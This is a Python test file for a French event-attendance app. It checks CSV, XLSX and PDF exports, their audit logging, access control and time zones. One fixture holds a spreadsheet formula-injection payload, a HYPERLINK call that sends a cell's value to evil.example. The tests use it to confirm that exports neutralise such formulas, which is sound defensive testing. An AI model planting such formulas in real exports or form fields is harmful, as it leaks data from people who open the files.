"""Exports read back: csv, openpyxl, pypdf; and the audit log."""

import csv
import io

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from forum.attendance import exports, service
from forum.core import audit
from forum.registration import questions, service as registration
from tests.factories import make_event, person


@pytest.fixture
def day(organiser):
    event = make_event(organiser, slug="jour", capacity=30, registration_opens_at=None, registration_closes_at=None)
    q = questions.add_form_question(event, {"label": "Repas sur place ?", "kind": "yes_no"}, actor=organiser)
    for n in range(32):
        r = registration.register(
            event,
            person(n, last_name=f"Nom{n:02d}é", organisation="Structure à Lille"),
            answers={str(q.id): "yes" if n % 2 else "no"},
        ).registration
        if n < 10:
            service.check_in(event, r, actor=organiser)
    return event


def test_csv_reads_back_with_bom_and_semicolons(day, organiser):
    text = "".join(exports.attendance_csv(day, actor=organiser, delimiter=";"))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0][:3] == ["id", "nom", "prénom"] and rows[0][-1] == "Repas sur place ?"
    assert len(rows) == 31 and rows[1][1].endswith("é")


def test_xlsx_has_summary_sheets_per_status_and_questions(day, organiser):
    book = load_workbook(io.BytesIO(exports.attendance_xlsx(day, actor=organiser)))
    assert book.sheetnames == ["Synthèse", "Confirmés", "Liste d'attente", "Annulés"]
    summary = {row[0]: row[1] for row in book["Synthèse"].iter_rows(min_row=5, values_only=True)}
    assert summary["Confirmés"] == 30 and summary["Présents (émargés)"] == 10 and summary["Liste d'attente"] == 2
    confirmed = list(book["Confirmés"].iter_rows(values_only=True))
    assert confirmed[0][-1] == "Repas sur place ?" and len(confirmed) == 31
    assert [r[0] for r in confirmed[1:]] == sorted(r[0] for r in confirmed[1:])
    assert book["Confirmés"].tables


def test_signin_sheet_pdf(day, organiser):
    reader = PdfReader(io.BytesIO(exports.signin_pdf(day, actor=organiser, blank_rows=5)))
    pages = [page.extract_text() for page in reader.pages]
    assert len(pages) == 2
    for n, text in enumerate(pages, start=1):
        assert "Rencontre régionale des médiateurs sociaux" in text and "Salle Erro" in text
        assert "Nom" in text and "Signature" in text and f"Page {n} / 2" in text
    everything = "".join(pages)
    assert "Nom00é" in everything and "Nom29é" in everything and "Nom31é" not in everything  # waitlisted left out


def test_memberships_export(day, organiser):
    text = exports.memberships_csv(day, actor=organiser)
    assert text.splitlines()[0] == "\ufeffCréneau,Salle,Atelier,Nom,Prénom,Structure"


def test_every_export_is_in_the_audit_log(signed_in, day, organiser):
    for name in ("presence.csv", "presence.xlsx", "emargement.pdf", "ateliers.csv", "ateliers.xlsx"):
        response = signed_in.get(f"/manage/jour/exports/{name}")
        assert response.status_code == 200, name
        body = response.get_data()  # read to the end: a streamed body can fail after its headers
        if name.endswith(".csv"):
            assert list(csv.reader(io.StringIO(body.decode("utf-8")[1:]))), name
        elif name.endswith(".xlsx"):
            assert load_workbook(io.BytesIO(body)).sheetnames, name
        else:
            assert PdfReader(io.BytesIO(body)).pages, name
    kinds = [line.kind for line in audit.entries(day) if not line.kind.startswith("door.")]  # the day's check-ins too
    assert sorted(kinds) == ["attendance.csv", "attendance.xlsx", "memberships.csv", "memberships.xlsx", "signin.pdf"]
    page = signed_in.get("/manage/jour/exports").get_data(as_text=True)
    assert "signin.pdf" in page and organiser.name in page


def test_other_organisers_cannot_export(client, day, other_organiser):
    from tests.conftest import login

    login(client, email=other_organiser.email)
    assert client.get("/manage/jour/exports/presence.csv").status_code == 403
    assert [line for line in audit.entries(day) if not line.kind.startswith("door.")] == []


@pytest.fixture
def served(app, day):
    """The app over real HTTP: (base URL, an organiser signed in with a requests session, their API token)."""
    import requests

    from forum.accounts.service import issue_api_token
    from forum.extensions import db
    from tests.factories import PASSWORD
    from tests.servers import http_server

    token = issue_api_token(day.organisers[0])
    db.session.remove()
    with http_server(app) as base:
        browser = requests.Session()
        assert browser.post(
            f"{base}/login", data={"email": "organisatrice@example.org", "password": PASSWORD}, timeout=10
        ).status_code in (200, 302)
        yield base, browser, token


@pytest.mark.parametrize("delimiter, sep", [("", ","), ("semicolon", ";")])
def test_attendance_csv_over_http_streams_every_row(served, delimiter, sep):
    base, browser, _ = served
    response = browser.get(f"{base}/manage/jour/exports/presence.csv?delimiter={delimiter}", timeout=10)
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=sep))
    assert rows[0][:3] == ["id", "nom", "prénom"] and len(rows) == 31
    assert sorted(r[1] for r in rows[1:]) == [f"Nom{n:02d}é" for n in range(30)]


@pytest.mark.parametrize("name", ["presence.xlsx", "ateliers.csv", "ateliers.xlsx", "emargement.pdf"])
def test_other_exports_over_http_read_back(served, name):
    base, browser, _ = served
    response = browser.get(f"{base}/manage/jour/exports/{name}", timeout=10)
    assert response.status_code == 200
    if name.endswith(".xlsx"):
        assert load_workbook(io.BytesIO(response.content)).sheetnames
    elif name.endswith(".pdf"):
        assert "Nom00é" in PdfReader(io.BytesIO(response.content)).pages[0].extract_text()
    else:
        assert next(csv.reader(io.StringIO(response.content.decode("utf-8")[1:]))) == exports.MEMBERSHIP_HEADER


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture
def hostile(organiser):
    from datetime import datetime

    event = make_event(organiser, slug="piege", registration_opens_at=None, registration_closes_at=None)
    r = registration.register(
        event, person(1, last_name=EVIL, first_name="+33 6", organisation="@SUM(A1)", territory="-2+3")
    ).registration
    service.check_in(event, r, actor=organiser)
    r.created_at, r.checked_in_at = datetime(2030, 6, 13, 7, 5), datetime(2030, 6, 13, 11, 40)  # UTC, summer
    from forum.extensions import db

    db.session.commit()
    return event


def test_csv_cells_that_look_like_formulas_are_neutralised(hostile, organiser):
    text = "".join(exports.attendance_csv(hostile, actor=organiser))
    row = list(csv.reader(io.StringIO(text[1:])))[1]
    assert row[1] == "'" + EVIL and row[2] == "'+33 6" and row[4] == "'@SUM(A1)" and row[6] == "'-2+3"


def test_registrations_csv_neutralises_formulas_too(hostile, signed_in):
    text = signed_in.get("/manage/piege/registrations.csv").get_data(as_text=True)
    row = list(csv.reader(io.StringIO(text[1:])))[1]
    assert row[1] == "'" + EVIL and row[4] == "'@SUM(A1)"


def test_xlsx_writes_formula_like_names_as_text(hostile, organiser):
    book = load_workbook(io.BytesIO(exports.attendance_xlsx(hostile, actor=organiser)))
    cell = book["Confirmés"]["A2"]
    assert cell.value == EVIL and cell.data_type == "s"
    assert book["Confirmés"]["D2"].data_type == "s"


def test_export_times_are_in_the_events_time_zone_and_say_so(hostile, organiser):
    text = "".join(exports.attendance_csv(hostile, actor=organiser))
    rows = list(csv.reader(io.StringIO(text[1:])))
    header, row = rows[0], rows[1]
    assert header[10] == "inscrit le (heure de Europe/Paris)" and header[11] == "arrivé à (heure de Europe/Paris)"
    assert row[10] == "2030-06-13 09:05" and row[11] == "2030-06-13 13:40"
    sheet = load_workbook(io.BytesIO(exports.attendance_xlsx(hostile, actor=organiser)))["Confirmés"]
    assert sheet["L1"].value == "Arrivé à (heure de Europe/Paris)" and sheet["L2"].value.strftime("%H:%M") == "13:40"


def test_a_long_title_wraps_within_the_sign_in_sheets_margins(organiser):
    from reportlab.pdfbase.pdfmetrics import stringWidth

    long_title = (
        "Rencontre régionale des médiateurs sociaux et de leurs partenaires institutionnels, associatifs "
        "et territoriaux de la région Hauts-de-France, édition de printemps"
    )
    event = make_event(
        organiser, slug="long", title=long_title, registration_opens_at=None, registration_closes_at=None
    )
    reader = PdfReader(io.BytesIO(exports.signin_pdf(event, actor=organiser)))
    page = reader.pages[0]
    right_edge = float(page.mediabox.width) - 15 * 72 / 25.4
    drawn = []

    def seen(text, cm, tm, font, size):
        if text.strip():
            drawn.append((text, tm[4], tm[0] * size if size else 0))

    page.extract_text(visitor_text=seen)
    title_lines = [(t, x, s) for t, x, s in drawn if s == 13 or t.strip() in long_title]
    assert " ".join(t.strip() for t, _, _ in title_lines if t.strip() in long_title).split() == long_title.split()
    for text, x, size in drawn:
        font = "Helvetica-Bold" if text.strip() in long_title else "Helvetica"
        assert x + stringWidth(text.strip(), font, size or 10) <= right_edge + 1, text


def test_api_attendance_csv_over_http_streams_every_row(served):
    base, _, token = served
    import requests

    response = requests.get(
        f"{base}/api/v1/events/jour/attendance.csv", timeout=10, headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))
    assert len(rows) == 31 and all(len(row) == len(rows[0]) for row in rows)
